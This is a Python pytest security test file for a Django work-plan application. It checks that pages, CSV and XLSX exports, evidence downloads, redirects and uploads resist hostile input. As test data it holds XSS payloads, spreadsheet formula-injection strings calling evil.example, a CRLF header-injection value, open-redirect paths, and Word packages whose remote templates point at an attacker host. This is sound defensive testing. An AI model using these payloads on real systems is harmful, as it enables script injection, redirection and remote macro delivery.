"""What hostile text, people and files leave on pages, in downloads and at the sign-in: nothing that runs or leaks."""

import csv
import io
import re
import zipfile
from contextlib import suppress
from time import process_time

import openpyxl
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from django.urls import reverse

from tests.attacks import addresses, client_of
from tests.world import World, build
from yangguang.kernel.intake.document import Unreadable
from yangguang.workplan.models import Evidence, UnitMention
from yangguang.workplan.reading import read_notice

pytestmark = pytest.mark.django_db


@pytest.fixture
def world() -> World:
    return build()


class TestWhatIsShown:
    SCRIPT = "<script>alert(1)</script>\"'><img src=x onerror=alert(1)>"

    @pytest.mark.slow
    def test_nothing_typed_becomes_a_part_of_a_page(self, world: World) -> None:
        """Names, reasons, matters, bodies, labels, file names and notice texts are written out, never run."""
        evil = self.SCRIPT
        for record, fields in (
            (world.own, ("short_name",)),
            (world.task, ("title", "text", "deadline_text")),
            (world.measure, ("text",)),
            (world.accepted, ("contest_reason", "decision")),
            (world.report, ("text",)),
            (world.released, ("label",)),
            (world.evidence, ("label",)),
            (world.order, ("matter", "reply")),
            (world.event, ("title", "summary")),
            (world.bulletin, ("title", "body")),
            (world.issued_bulletin, ("title", "body")),
            (world.alias, ("name",)),
            (world.notice, ("source_name",)),
            (world.opinion_consulting, ("comment", "answer")),
            (world.people["own.clerk"], ("display_name",)),
            (world.group, ("name",)),
        ):
            known = {field.name for field in record._meta.concrete_fields}
            values = {name: evil for name in fields if name in known}
            assert values
            type(record).objects.filter(pk=record.pk).update(**values)
        UnitMention.objects.update(as_written=evil)
        draft = {**world.notice.draft, "title": evil, "problems": [{"where": evil, "what": evil}]}
        lines = [{"where": evil, "text": evil}, {"where": evil, "rows": [[evil, evil]]}]
        type(world.notice).objects.filter(pk=world.notice.pk).update(draft=draft, parsed=draft, lines=lines)
        for who in ("anonymous", "city.office", "city.administrator", "own.head"):
            client = client_of(world, who)
            for prefix in ("", "/zh-hant"):
                for name, url in addresses(world).items():
                    answer = client.get(prefix + url)
                    if answer.status_code == 200 and answer["Content-Type"].startswith("text/html"):
                        page = answer.content.decode()
                        assert "<script>alert" not in page, (who, name)
                        assert "<img src=x" not in page, (who, name)

    @pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t=", "＝", "＠", " =", "\n="])
    def test_no_export_holds_a_formula(self, world: World, start: str) -> None:
        """A spreadsheet, Chinese ones with full-width signs too, must open every cell as words."""
        evil = f'{start}HYPERLINK("http://evil.example",1)'
        type(world.event).objects.update(title=evil, summary=evil)
        type(world.task).objects.update(title=evil, text=evil)
        type(world.released).objects.update(label=evil)
        office = client_of(world, "city.office")
        own = client_of(world, "own.clerk")
        sheets = [
            office.get(reverse("workplan:events"), {"format": "csv"}).content,
            own.get(reverse("workplan:my-tasks"), {"format": "csv"}).content,
            b"".join(office.get(reverse("plans:plan-csv", args=[world.plan.slug]))),
        ]
        seen = 0
        for sheet in sheets:
            for row in csv.reader(io.StringIO(sheet.decode("utf-8-sig"), newline="")):
                for cell in row:
                    seen += "HYPERLINK" in cell
                    assert not re.match(r"\s*[=+\-@＝＋－＠]", cell), cell
        assert seen > 3
        book = openpyxl.load_workbook(
            io.BytesIO(office.get(reverse("plans:plan-xlsx", args=[world.plan.slug])).content)
        )
        assert not [cell for sheet in book for row in sheet.iter_rows() for cell in row if cell.data_type == "f"]

    @pytest.mark.parametrize("control", ["\x01", "\x0b", "\x1b", "\ufffe"])
    def test_control_characters_break_no_download(self, world: World, control: str) -> None:
        evil = f"甲{control}乙\n丙"
        type(world.bulletin).objects.update(title=evil, body=evil)
        type(world.task).objects.update(title=evil, text=evil)
        type(world.released).objects.update(label=evil)
        client = client_of(world, "city.office")
        for name in (
            "plans:bulletin-docx",
            "workplan:bulletin-file",
            "plans:plan-xlsx",
            "plans:plan-csv",
            "plans:evidence",
        ):
            url = addresses(world)[name]
            answer = client.get(url)
            assert answer.status_code == 200, name
            assert answer["Content-Disposition"].startswith("attachment"), name
            b"".join(answer) if answer.streaming else answer.content

    def test_evidence_leaves_as_a_file_and_never_as_a_page(self, world: World) -> None:
        Evidence.objects.filter(pk=world.released.pk).update(media_type="text/html", label="../../x\r\nSet-Cookie: a")
        for who, name in (("anonymous", "plans:evidence"), ("own.clerk", "workplan:evidence")):
            answer = client_of(world, who).get(reverse(name, args=[world.released.pk]))
            assert answer["Content-Disposition"].startswith("attachment")
            assert answer["X-Content-Type-Options"] == "nosniff"
            assert "default-src 'none'" in answer["Content-Security-Policy"]
            assert "/" not in answer["Content-Disposition"]
            assert "Set-Cookie" not in answer

    @pytest.mark.parametrize("link", ["javascript:alert(1)", "data:text/html,x", "ftp://x.cn/", "//x.cn", "http://"])
    def test_evidence_links_are_web_pages(self, world: World, link: str) -> None:
        client = client_of(world, "own.clerk")
        sent = {"do": "report", "report-text": "甲", "report-label_1": "乙", "report-link_1": link}
        client.post(reverse("workplan:share", args=[world.accepted.pk]), sent)
        assert not Evidence.objects.exclude(link="").exclude(link__regex=r"^https?://[^/]").exists()

    @pytest.mark.parametrize(
        "path", ["//evil.example/x", "///evil.example", "/\\evil.example", "//evil.example/%2e%2e"]
    )
    @pytest.mark.parametrize("prefix", ["/zh-hant", ""])
    def test_no_address_makes_a_link_to_another_site(self, path: str, prefix: str) -> None:
        page = Client().get(prefix + path).content.decode()
        assert re.findall(r'(?:href|src|action|value)="[\s]*(?://|/\\|\\)[^"]*"', page) == []

    @pytest.mark.parametrize(
        "back",
        [
            "//evil.example",
            "https:evil.example",
            "/\\evil.example",
            "http:///evil.example",
            "javascript:alert(1)",
            "\x01//evil.example",
            "[",
            "/" + "a" * 9000,
        ],
    )
    def test_no_way_back_leads_elsewhere(self, world: World, back: str) -> None:
        answer = Client(raise_request_exception=False).post(reverse("portal:reading-mode"), {"next": back})
        assert answer.status_code < 500
        if answer.status_code == 302:
            assert re.match(r"/(?![/\\])", answer["Location"])


class TestSignIn:
    def test_a_temporary_password_can_be_changed_in_traditional_script(self, world: World) -> None:
        person = world.people["own.clerk"]
        person.must_change_password = True
        person.save()
        client = client_of(world, "own.clerk")
        for prefix in ("", "/zh-hant"):
            sent = client.get(f"{prefix}/desk/")
            assert sent.status_code == 302
            assert sent["Location"].startswith(f"{prefix}/desk/account/")
            assert client.get(sent["Location"]).status_code == 200

    def test_staff_pages_are_kept_by_no_browser(self, world: World) -> None:
        client = client_of(world, "city.office")
        for name in ("workbench:inbox", "workbench:audit-log", "workplan:orders", "organisations:units"):
            assert "no-store" in client.get(reverse(name))["Cache-Control"], name

    def test_every_kind_of_answer_bears_the_headers(self, world: World) -> None:
        """Pages, downloads, refusals and faults alike."""
        client = client_of(world, "city.office", raise_request_exception=False)
        wanted = (
            "X-Content-Type-Options",
            "Referrer-Policy",
            "Cross-Origin-Opener-Policy",
            "Content-Security-Policy",
            "Permissions-Policy",
        )
        answers = [client.get(url) for url in addresses(world).values()]
        answers += [
            client.get("/nowhere/"),
            client.post("/mode"),
            client.post("/units/"),
            client.get("/", HTTP_HOST="a b"),
        ]
        answers.append(Client(enforce_csrf_checks=True).post("/mode", {"next": "/"}))
        assert {answer.status_code for answer in answers} >= {200, 302, 400, 403, 404, 405}
        for answer in answers:
            assert [name for name in wanted if not answer.has_header(name)] == [], (answer.status_code, answer.request)


class TestUploads:
    def package(self, relation: str, target: str) -> bytes:
        out = io.BytesIO()
        main = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
        kind = f"http://schemas.openxmlformats.org/officeDocument/2006/relationships/{relation}"
        with zipfile.ZipFile(out, "w") as package:
            package.writestr(
                "[Content_Types].xml",
                '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
                f'<Override PartName="/word/document.xml" ContentType="{main}"/></Types>',
            )
            package.writestr(
                "word/_rels/settings.xml.rels",
                '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
                f'<Relationship Id="a" Type="{kind}" Target="{target}" TargetMode="External"/></Relationships>',
            )
        return out.getvalue()

    @pytest.mark.parametrize(
        ("relation", "target", "taken"),
        [
            ("attachedTemplate", "http://evil.example/a.dotm", False),
            ("attachedTemplate", "\\\\evil.example\\share\\a.dotm", False),
            ("attachedTemplate", "file://evil.example/a.dotm", False),
            ("oleObject", "HTTPS://evil.example/a.html!x", False),
            ("attachedTemplate", "file:///C:\\Users\\a\\Normal.dotm", True),
            ("hyperlink", "http://www.changde.gov.cn/", True),
        ],
    )
    def test_a_document_that_fetches_something_when_opened_is_refused(
        self, world: World, relation: str, target: str, taken: bool
    ) -> None:
        """A remote template brings its macros past every check of the file itself."""
        file = SimpleUploadedFile("a.docx", self.package(relation, target))
        before = Evidence.objects.count()
        sent = {"do": "report", "report-text": "甲", "report-file_1": file}
        client_of(world, "own.clerk").post(reverse("workplan:share", args=[world.accepted.pk]), sent)
        assert (Evidence.objects.count() > before) is taken

    @pytest.mark.parametrize(
        "word",
        [
            "(",
            "、",
            "，",
            "\t",
            "协同",
            "ā ",
            "12月31日前",
            "年底前",
            "组织实施",
            "抓好落实",
            "责任单位：",
            "（市司法局",
            "《",
        ],
    )
    @pytest.mark.parametrize("length", [320, 40_000])
    @pytest.mark.parametrize("place", ["（牵头{}x）", "{}（市司法局牵头）", "{}x", "cell"])
    def test_no_text_keeps_the_reader_busy(self, word: str, length: int, place: str) -> None:
        """Patterns that go back and forth over a hostile file would stop a server for everybody."""
        body = word * (length // len(word))
        text = f"1.做好公开。{place.format(body)}\n2.做好解读。（市司法局牵头）"
        if place == "cell":
            text = f"序号 | 任务 | 责任单位\n1 | 公开{body} | {body}x\n2 | 解读 | 市司法局"
        began = process_time()
        with suppress(Unreadable):
            read_notice("通知.txt", text.encode())
        assert process_time() - began < 3
